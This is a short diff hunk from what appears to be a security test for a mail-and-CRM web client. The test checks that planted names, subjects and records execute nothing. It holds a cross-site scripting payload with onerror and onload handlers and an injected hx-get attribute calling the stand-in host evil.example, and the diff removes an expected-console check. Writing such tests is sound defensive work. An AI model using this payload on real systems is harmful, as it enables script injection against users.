@@ -166,8 +166,6 @@ Content-Disposition: attachment; filename*=utf-8''{file}
 def test_planted_mail_and_records_run_nothing_from_end_to_end(outlook: Callable[..., Outlook]) -> None:
     """Names, subject, file, account, opportunity and case that mean harm: opened, unfolded, filed, searched, listed."""
     window = outlook()
-    # What is asked for as one types is broken off for the next letter.
-    window.expect_console("htmx:(afterRequest|sendAbort)")
     sandbox = window.stack.sandbox
     harm = "\"><img src=x onerror=planted()><svg onload=planted()>' hx-get='//evil.example/"
     token = sandbox.salesforce_login("mia")["access_token"]
